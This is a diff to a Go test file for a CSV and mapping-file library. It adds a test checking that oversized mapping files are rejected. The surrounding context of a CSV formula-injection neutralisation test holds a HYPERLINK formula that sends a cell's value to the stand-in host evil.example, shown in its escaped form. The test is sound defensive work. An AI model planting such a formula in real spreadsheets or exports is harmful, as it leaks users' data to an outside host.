@@ -5,6 +5,7 @@ import (
 	"encoding/csv"
 	"errors"
 	"fmt"
+	"io"
 	"runtime"
 	"slices"
 	"strings"
@@ -187,5 +188,17 @@ func TestNeutralise(t *testing.T) {
 	w.Flush()
 	if got := b.String(); got != `a,"'=HYPERLINK(""http://evil.example/?""&A2,""click"")"`+"\n" {
 		t.Fatalf("written %q", got)
+	}
+}
+
+// TestReadMappingCapped: a mapping file is read up to MaxMappingFile (the
+// command line read it whole before).
+func TestReadMappingCapped(t *testing.T) {
+	if m, err := ReadMapping(strings.NewReader(`{"version":1,"columns":{"Nom":"person.family_name"}}`)); err != nil || m.Columns["Nom"] != "person.family_name" {
+		t.Fatalf("%v %v", m, err)
+	}
+	huge := io.MultiReader(strings.NewReader(`{"version":1,"columns":{"`), strings.NewReader(strings.Repeat("x", MaxMappingFile)))
+	if _, err := ReadMapping(huge); !errors.Is(err, ErrMappingTooLarge) {
+		t.Fatalf("got %v", err)
 	}
 }
